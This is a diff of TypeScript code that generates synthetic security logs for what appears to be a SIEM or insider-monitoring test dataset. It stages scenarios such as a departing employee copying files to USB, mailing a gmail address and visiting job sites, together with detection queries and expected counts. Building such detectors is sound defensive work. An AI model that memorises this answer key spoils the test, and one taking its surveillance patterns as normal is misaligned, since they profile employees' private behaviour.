+      this.sinks.pg.add(tdb, `${pgStamp(tdb)} [${pid}] [unknown]@[unknown] LOG:  connection received: host=${admin.ip} port=52344`);
+      this.sinks.pg.add(tdb + 20, `${pgStamp(tdb + 20)} [${pid}] ${admin.account}@hrdb LOG:  connection authorized: user=${admin.account} database=hrdb application_name=psql`);
+      let v = tdb + 1000;
+      for (let i = 0; i < 120; i++) {
+        const table = ['employees', 'salaries', 'evaluations', 'addresses'][i % 4];
+        this.sinks.pg.add(v, `${pgStamp(v)} [${pid}] ${admin.account}@hrdb LOG:  AUDIT: SESSION,${i + 1},1,READ,SELECT,TABLE,public.${table},"select * from ${table} offset ${i * 5000} limit 5000",<not logged>`);
+        v += rng.int(800, 4000);
+      }
+      this.record({ id: 'admin-reads-hr', title: 'A privileged admin reads HR files and bulk-selects the HR database', who: admin.account, what: '40 files under 人事\\機密 read on FS02, then 120 SELECT * on hrdb from psql', monitoringPoint: 'Insider: privileged use (file reads, DB operations)', useCase: '2 insider, 3 audit', detections: [
+        { description: 'admin file reads in 人事', query: `event.action:read-file AND user.name:${admin.account} AND file.path:*人事*`, minCount: 40 },
+        { description: 'bulk SELECTs on hrdb by the admin', query: `user.name:${admin.account} AND event.action:db-read`, minCount: 100 },
+      ] }, t, v);
+    }
+
+    // 12. A sales user opens development shares for the first time.
+    if (d === w(7)) {
+      const t = this.at(d, 15, 10);
+      let u = t;
+      for (let i = 0; i < 25; i++) u = this.fileAccess(u + rng.int(5000, 40_000), 'FS01', explorer, '0x6b0c2a', `C:\\Shares\\開発\\${rng.pick(['ソースコード', '製品設計', '仕様書'])}\\${rng.pick(SHARE_FILES)}_${i + 1}${rng.pick(EXTS)}`, 'read');
+      this.record({ id: 'sales-opens-dev-share', title: 'A sales user opens development shares never touched before', who: explorer.account, what: '25 files under C:\\Shares\\開発 read, after weeks of 営業-only access', monitoringPoint: 'Insider: unusual behaviour (risk score)', useCase: '2 insider', detections: [{ description: 'reads of 開発 by the sales user', query: `user.name:${explorer.account} AND file.path:*\\\\開発\\\\*`, minCount: 25 }] }, t, u);
+    }
+
+    // 13. Late-night work and holiday work; 14. a rest interval under 11 h.
+    if (d === w(8)) {
+      const a = this.at(d, 9, 2);
+      const b = this.at(d, 23, 48);
+      this.workSession(lateWorker, a, b, rng.fork('late'), d, false, {});
+      this.record({ id: 'late-night-work', title: 'Late-night work until almost midnight', who: lateWorker.account, what: `${lateWorker.host} used from 09:02 until 23:48`, monitoringPoint: 'Working hours: late-night PC use', useCase: '4 working hours', detections: [{ description: 'logoff after 22:00 JST', query: `event.code:4647 AND user.name:${lateWorker.account} AND ${this.range(this.at(d, 22, 0), this.at(d, 23, 59))}`, minCount: 1 }] }, a, b);
+    }
+    const hd = off.find((x) => this.holidays.has(jstDate(this.at(x, 12, 0)))) ?? (off.length > 0 ? off[0] : -1);
+    if (d === hd) {
+      const a = this.at(d, 10, 12);
+      const b = this.at(d, 16, 40);
+      this.workSession(lateWorker, a, b, rng.fork('holiday'), d, false, {});
+      const name = this.holidays.get(jstDate(a)) ?? (jst(a).dow === 0 ? '日曜日' : '土曜日');
+      this.record({ id: 'holiday-work', title: `Work on a day off (${jstDate(a)} ${name})`, who: lateWorker.account, what: `${lateWorker.host} logon 10:12, logoff 16:40 on a weekend/holiday`, monitoringPoint: 'Working hours: holiday PC use', useCase: '4 working hours', detections: [{ description: 'logon on the day off', query: `event.code:4624 AND user.name:${lateWorker.account} AND host.name:${lateWorker.host}* AND ${this.range(this.at(d, 0, 0), this.at(d, 23, 59))}`, minCount: 1 }] }, a, b);
+    }
+    if (d === this.restDay()) {
+      const a = this.at(d, 9, 10);
+      const b = this.at(d, 23, 55);
+      this.workSession(restUser, a, b, rng.fork('rest1'), d, false, {});
+      const next = this.at(d + 1, 7, 50);
+      const end = this.at(d + 1, 17, 30);
+      if (d + 1 < this.opts.days) this.workSession(restUser, next, end, rng.fork('rest2'), d + 1, false, {});
+      this.record({ id: 'rest-interval-short', title: 'Rest interval of about 8 hours (under 11 h)', who: restUser.account, what: `logoff ${isoJst(b)}, next logon ${isoJst(next)}`, monitoringPoint: 'Working hours: 勤務間インターバル', useCase: '4 working hours', detections: [
+        { description: 'the late logoff', query: `event.code:4647 AND user.name:${restUser.account} AND ${this.range(this.at(d, 23, 0), this.at(d, 23, 59))}`, minCount: 1 },
+        { description: 'the early logon the next morning', query: `event.code:4624 AND user.name:${restUser.account} AND host.name:${restUser.host}* AND ${this.range(this.at(d + 1, 7, 0), this.at(d + 1, 8, 0))}`, minCount: 1 },
+      ] }, b, next);
+    }
+
+    // 15. Switch port flapping and an AP error storm.
+    if (d === w(10)) {
+      const t = this.at(d, 11, 2);
+      for (let i = 0; i < 24; i++) {
+        const u = t + i * 25_000 + rng.int(0, 3000);
+        const state = i % 2 === 0 ? 'down' : 'up';
+        this.sinks.sw.add(u, `<187>${++this.ciscoSeq}: floor3-sw01: ${ciscoStamp(u)}: %LINK-3-UPDOWN: Interface GigabitEthernet1/0/17, changed state to ${state}`);
+        this.sinks.sw.add(u + 1000, `<189>${++this.ciscoSeq}: floor3-sw01: ${ciscoStamp(u + 1000)}: %LINEPROTO-5-UPDOWN: Line protocol on Interface GigabitEthernet1/0/17, changed state to ${state}`);
+      }
+      this.record({ id: 'switch-port-flapping', title: 'Switch port Gi1/0/17 flapping', who: 'floor3-sw01', what: '24 link up/down changes in 10 minutes', monitoringPoint: 'Failure investigation: network device errors', useCase: '5 failure investigation', detections: [{ description: 'link state changes on the port', query: 'host.name:floor3-sw01 AND observer.ingress.interface.name:GigabitEthernet1/0/17', minCount: 24 }] }, t, t + 10 * MINUTE);
+      const ta = this.at(d, 11, 20);
+      for (let i = 0; i < 80; i++) {
+        const u = ta + i * 7000 + rng.int(0, 2000);
+        const line = i % 3 === 0
+          ? `<187>${++this.ciscoSeq}: ap-3f-02: ${ciscoStamp(u)}: %DOT11-3-RADIO_RX_BUF_FULL: Interface Dot11Radio1, Radio receive buffer full`
+          : `<188>${++this.ciscoSeq}: ap-3f-02: ${ciscoStamp(u)}: %DOT11-4-MAXRETRIES: Packet to client 3c22.fb${rng.hex(2)}.${rng.hex(4)} reached max retries, removing the client`;
+        this.sinks.ap.add(u, line);
+      }
+      this.record({ id: 'ap-error-storm', title: 'Wireless AP error storm', who: 'ap-3f-02', what: '80 radio errors (RX buffer full, max retries) in 10 minutes', monitoringPoint: 'Failure investigation: wireless AP errors', useCase: '5 failure investigation', detections: [{ description: 'AP errors', query: 'host.name:ap-3f-02 AND event.severity:<=4', minCount: 80 }] }, ta, ta + 10 * MINUTE);
+    }
+
+    // 16. The leaver, across the second half: job sites, USB copies, mail out, heavy printing.
+    if (work.includes(d) && leaver) {
+      const lr = rng.fork('leaver');
+      const t = this.at(d, 12, 10);
+      for (let i = 0; i < 8; i++) this.browse(leaver, t + i * 90_000, lr, 'job-site');
+      const comp = `${leaver.host}.${FQDN}`;
+      const tu = this.at(d, 17, 20);
+      this.sec('ws', tu, comp, 6416, [...this.machineSubject(leaver.host), ['DeviceId', 'USBSTOR\\Disk&Ven_SanDisk&Prod_Ultra&Rev_1.00\\4C530001230915112345&0'], ['DeviceDescription', 'SanDisk Ultra USB Device'], ['ClassId', '{4d36e967-e325-11ce-bfc1-08002be10318}'], ['ClassName', 'DiskDrive'], ['VendorIds', 'USBSTOR\\DiskSanDisk_Ultra___________1.00'], ['CompatibleIds', 'USBSTOR\\Disk'], ['LocationInformation', 'Port_#0002.Hub_#0001']], 'A new external device was recognized by the system.', { task: 13316, taskName: 'Plug and Play Events' });
+      let u = tu + 20_000;
+      const lid = '0x77aa01';
+      for (let i = 0; i < 12; i++) {
+        const h = hex((this.handle += 4));
+        const path = `E:\\持ち出し\\${lr.pick(SHARE_FILES)}_${i + 1}${lr.pick(EXTS)}`;
+        const base = this.subject(leaver, lid);
+        this.sec('ws', u, comp, 4656, [...base, ['ObjectServer', 'Security'], ['ObjectType', 'File'], ['ObjectName', path], ['HandleId', h], ['TransactionId', '{00000000-0000-0000-0000-000000000000}'], ['AccessList', '%%1538\n\t\t\t\t%%1541\n\t\t\t\t%%4417\n\t\t\t\t%%4418\n\t\t\t\t%%4420\n\t\t\t\t%%4424\n\t\t\t\t'], ['AccessReason', '-'], ['AccessMask', '0x120116'], ['PrivilegeList', '-'], ['RestrictedSidCount', '0'], ['ProcessId', '0x1d30'], ['ProcessName', 'C:\\Windows\\explorer.exe'], ['ResourceAttributes', '-']], 'A handle to an object was requested.', { version: 1, task: 12813, taskName: 'Removable Storage' });
+        this.sec('ws', u + 5, comp, 4663, [...base, ['ObjectServer', 'Security'], ['ObjectType', 'File'], ['ObjectName', path], ['HandleId', h], ['AccessList', '%%4417\n\t\t\t\t'], ['AccessMask', '0x2'], ['ProcessId', '0x1d30'], ['ProcessName', 'C:\\Windows\\explorer.exe'], ['ResourceAttributes', '-']], 'An attempt was made to access an object.', { version: 1, task: 12813, taskName: 'Removable Storage' });
+        this.sec('ws', u + 40, comp, 4658, [...base, ['ObjectServer', 'Security'], ['HandleId', h], ['ProcessId', '0x1d30'], ['ProcessName', 'C:\\Windows\\explorer.exe']], 'The handle to an object was closed.', { task: 12813, taskName: 'Removable Storage' });
+        u += lr.int(4000, 30_000);
+      }
+      for (let i = 0; i < 3; i++) this.mailOut(leaver, this.at(d, 17, 40) + i * 4 * MINUTE, lr, `${leaver.romaji.split(' ')[1]}.${leaver.romaji.split(' ')[0]}1987@gmail.com`, lr.int(5_000_000, 18_000_000));
+      this.print(leaver, this.at(d, 18, 5), lr, lr.int(120, 400), `顧客一覧_全件_${jstDate(t).replace(/-/g, '')}.xlsx`);
+      if (d === work[0]) {
+        const days = work.length;
+        this.record({ id: 'leaver-exfiltration', title: '退職予定者: job-site browsing, USB copies, mail to a private address and heavy printing in the last weeks', who: leaver.account, what: `every working day of the second half: 8 job-site visits, a USB stick with 12 copies, 3 large mails to gmail.com, one 120–400 page print job (departure ${leaver.departureDate})`, monitoringPoint: 'Insider: employees about to leave (watchlist)', useCase: '2 insider', detections: [
+          { description: 'job-site browsing by a watchlisted user', query: `user.name:${leaver.account} AND kansa.url.category:job-site AND kansa.user.watchlist:true`, minCount: 8 * days },
+          { description: 'USB device plugged in', query: `event.code:6416 AND kansa.host.owner:${leaver.account}`, minCount: days },
+          { description: 'copies to removable storage', query: `user.name:${leaver.account} AND file.path:E\\:\\\\* AND kansa.user.watchlist:true`, minCount: 12 * days },
+          { description: 'mail to a private address', query: 'email.direction:outbound AND email.to.address:*@gmail.com', minCount: 3 * days },
+          { description: 'heavy printing', query: `user.name:${leaver.account} AND event.action:document-printed AND kansa.print.pages:>=100 AND kansa.user.watchlist:true`, minCount: days },
+        ] }, this.at(work[0], 12, 10), this.at(work[work.length - 1], 18, 10));
+      }
+    }
+  }
+
 }
 
 export { DEPARTMENTS, p2 };
